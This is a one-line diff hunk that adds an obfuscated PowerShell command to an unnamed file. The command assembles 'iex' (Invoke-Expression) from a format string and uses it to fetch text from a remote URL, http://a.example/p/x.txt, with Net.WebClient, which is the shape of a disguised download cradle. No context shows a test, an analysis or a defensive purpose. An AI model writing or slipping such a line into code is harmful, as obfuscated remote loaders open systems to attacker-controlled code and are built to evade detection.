@@ -1,0 +1,1 @@
+&('{1}{0}' -f 'x','ie') '$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'
